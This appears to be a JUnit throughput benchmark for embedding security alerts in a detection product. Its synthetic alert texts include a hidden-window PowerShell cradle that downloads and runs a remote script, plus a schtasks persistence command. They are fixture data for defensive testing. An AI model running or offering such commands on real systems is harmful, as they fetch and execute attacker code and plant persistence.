package dev.vigil.analyst.similar;

import com.sun.management.OperatingSystemMXBean;
import dev.vigil.detect.MatchedField;
import dev.vigil.store.AlertVectorStore;
import dev.vigil.tenancy.TenantId;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;


import java.lang.management.ManagementFactory;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Consumer;

/**
 * Similar-alert embedding throughput (run with {@code -Pbench}; see docs/performance.md): alerts embedded per second
 * with the shipped model, one at a time (as the appliance does) on 1 and 2 threads, with 2 intra-op threads, with the
 * previous recipe (UUIDs kept, 128 tokens) and in equal-length batches, against a baseline measured in the same run
 * on the same alert texts (tokenisation alone), plus storing the vectors in the per-tenant HNSW index; and how far a
 * text's vector moves when it is embedded in an equal-length batch instead of alone.
 */
class EmbeddingBenchmark {

    @TempDir
    Path tmp;

    /** Alert texts by the {@link AlertText} recipe, of the shapes the factory rules raise. */
    static List<String> alertTexts(int n) {
        return alertTexts(n, AlertText::of);
    }

    /** The parts of an alert text, for either recipe. */
    interface Recipe {
        String text(String title, String ruleId, String level, List<String> tags, List<MatchedField> matched);
    }

    static List<String> alertTexts(int n, Recipe recipe) {
        String[][] kinds = {
                {"SSH brute force against %s", "vigil-ssh-brute-force", "attack.credential_access,attack.t1110", "source.ip=203.0.113.%d"},
                {"Suspicious PowerShell download cradle on %s", "3b6ab547-8ec2-4991-b9d2-2b06702a48d7", "attack.execution,attack.t1059.001",
                        "CommandLine=powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.%d/a.ps1')"},
                {"LSASS memory accessed by an unusual process on %s", "vigil-lsass-access", "attack.credential_access,attack.t1003.001",
                        "SourceImage=C:\\Users\\Public\\tool%d.exe"},
                {"Scheduled task created for persistence on %s", "92626ddd-662c-49e3-ac59-f6535f12d189", "attack.persistence,attack.t1053.005",
                        "CommandLine=schtasks /create /tn Updater%d /tr C:\\ProgramData\\u.exe /sc onlogon"},
                {"Console login without MFA for %s", "vigil-cloud-console-no-mfa", "attack.initial_access,attack.t1078.004",
                        "sourceIPAddress=198.51.100.%d"}};
        List<String> texts = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
            String[] k = kinds[i % kinds.length];
            String[] matched = String.format(k[3], i % 250).split("=", 2);
            texts.add(recipe.text(String.format(k[0], "host-" + i), k[1], "high", List.of(k[2].split(",")),
                    List.of(new MatchedField("host.name", "host-" + i), new MatchedField(matched[0], matched[1]))));
        }
        return texts;
    }

    @Test
    void measure() throws Exception {
        int n = Integer.getInteger("bench.alerts", 600);
        List<String> texts = alertTexts(n);
        List<String> previous = alertTexts(n, AlertText::withIdentifiers);
        StringBuilder report = new StringBuilder("| measurement | alerts | seconds | alerts/s | ratio to (a) | CPU seconds | alerts per CPU-second |\n"
                + "|---|---:|---:|---:|---:|---:|---:|\n");
        try (AlertEmbedder embedder = AlertEmbedder.miniLm(1);
             AlertEmbedder before = new AlertEmbedder(MiniLm.tokenizer(), MiniLm.model(), 1);
             AlertEmbedder twoIntraOp = AlertEmbedder.miniLm(2)) {
            WordPieceTokenizer tokenizer = embedder.tokenizer();
            double tokens = texts.stream().mapToInt(t -> tokenizer.encode(t).length).average().orElse(0);
            double tokensBefore = previous.stream().mapToInt(t -> before.tokenizer().encode(t).length).average().orElse(0);
            List<String> warmUp = texts.subList(0, Math.min(50, n));
            embedder.embedAll(warmUp);
            before.embedAll(previous.subList(0, Math.min(50, n)));
            twoIntraOp.embedAll(warmUp);
            Timing a = time(texts, 1, chunk -> chunk.forEach(tokenizer::encode));
            row(report, "(a) tokenisation alone, 1 thread (baseline)", n, a, a);
            row(report, "previous recipe (UUIDs kept, up to 128 tokens), one at a time, 1 thread", n,
                    time(previous, 1, before::embedAll), a);
            row(report, "embed one at a time, 1 thread", n, time(texts, 1, embedder::embedAll), a);
            row(report, "embed one at a time, 2 threads (the appliance's indexer, shared session)", n,
                    time(texts, 2, embedder::embedAll), a);
            row(report, "embed one at a time, 1 thread, 2 intra-op threads", n, time(texts, 1, twoIntraOp::embedAll), a);
            List<List<String>> buckets = equalLengthBatches(texts, tokenizer, 8);
            row(report, "equal-length batches of up to 8, 1 thread (reference only)", n, time(texts, 1, all -> buckets.forEach(embedder::embedBatch)), a);
            List<float[]> vectors = embedder.embedAll(texts);
            Map<String, float[]> byId = new LinkedHashMap<>();
            for (int i = 0; i < n; i++) {
                byId.put("A-" + i, vectors.get(i));
            }
            try (AlertVectorStore store = new AlertVectorStore(tmp.resolve("vectors"), MiniLm.DIMENSIONS)) {
                Timing put = time(texts, 1, all -> store.putAll(TenantId.of("bench"), byId));
                row(report, "store the vectors in the tenant's HNSW index (one commit)", n, put, a);
            }
            report.append(String.format("%nMean tokens per alert text: %.1f ([CLS] and [SEP] included; at most %d); "
                    + "previous recipe: %.1f (at most %d).%n", tokens, tokenizer.maxLength(), tokensBefore, before.tokenizer().maxLength()));
            report.append(batchEffect(embedder, buckets, texts, vectors));
        }
        Path out = Path.of(System.getProperty("bench.out", "target/bench/embedding.md"));
        Files.createDirectories(out.toAbsolutePath().getParent());
        Files.writeString(out, report);
        System.out.println(report);
    }

    /** The texts grouped by token count, cut into batches of at most {@code size} texts of the same count. */
    private static List<List<String>> equalLengthBatches(List<String> texts, WordPieceTokenizer tokenizer, int size) {
        Map<Integer, List<String>> byLength = new TreeMap<>();
        texts.forEach(t -> byLength.computeIfAbsent(tokenizer.encode(t).length, k -> new ArrayList<>()).add(t));
        List<List<String>> batches = new ArrayList<>();
        for (List<String> same : byLength.values()) {
            for (int i = 0; i < same.size(); i += size) {
                batches.add(same.subList(i, Math.min(same.size(), i + size)));
            }
        }
        return batches;
    }

    /** Cosine of each text's vector in its equal-length batch to its vector alone: mean, least, and batches of one. */
    private static String batchEffect(AlertEmbedder embedder, List<List<String>> batches, List<String> texts, List<float[]> alone) {
        Map<String, float[]> byText = new HashMap<>();
        for (int i = 0; i < texts.size(); i++) {
            byText.put(texts.get(i), alone.get(i));
        }
        double sum = 0;
        double least = 1;
        int count = 0;
        for (List<String> batch : batches) {
            if (batch.size() < 2) {
                continue;
            }
            List<float[]> together = embedder.embedBatch(batch);
            for (int i = 0; i < batch.size(); i++) {
                double cosine = MeanPooling.dot(byText.get(batch.get(i)), together.get(i));
                sum += cosine;
                least = Math.min(least, cosine);
                count++;
            }
        }
        return String.format("Equal-length batches (no padding): %d texts in batches of 2 to 8; cosine to the same text "
                + "embedded alone: mean %.5f, least %.5f (1 - least = %.1e).%n", count, sum / count, least, 1 - least);
    }

    /** Wall-clock seconds of a measurement, and the CPU seconds the whole process used meanwhile (every thread). */
    record Timing(double seconds, double cpuSeconds) {
    }

    private static final OperatingSystemMXBean OS = (OperatingSystemMXBean) ManagementFactory.getOperatingSystemMXBean();

    /** Time to run {@code work} over the texts split in {@code threads} equal parts, one per thread. */
    private static Timing time(List<String> texts, int threads, Consumer<List<String>> work) throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(threads);
        try {
            int per = (texts.size() + threads - 1) / threads;
            long cpu = OS.getProcessCpuTime();
            long start = System.nanoTime();
            List<Future<?>> parts = new ArrayList<>();
            for (int t = 0; t < threads; t++) {
                List<String> chunk = texts.subList(Math.min(texts.size(), t * per), Math.min(texts.size(), (t + 1) * per));
                parts.add(pool.submit(() -> work.accept(chunk)));
            }
            for (Future<?> f : parts) {
                f.get();
            }
            return new Timing((System.nanoTime() - start) / 1e9, (OS.getProcessCpuTime() - cpu) / 1e9);
        } finally {
            pool.shutdown();
        }
    }

    private static void row(StringBuilder report, String name, int n, Timing t, Timing baseline) {
        report.append(String.format("| %s | %,d | %.2f | %,.0f | %.3f | %.2f | %,.0f |%n", name, n, t.seconds(), n / t.seconds(),
                baseline.seconds() / t.seconds(), t.cpuSeconds(), n / t.cpuSeconds()));
    }
}
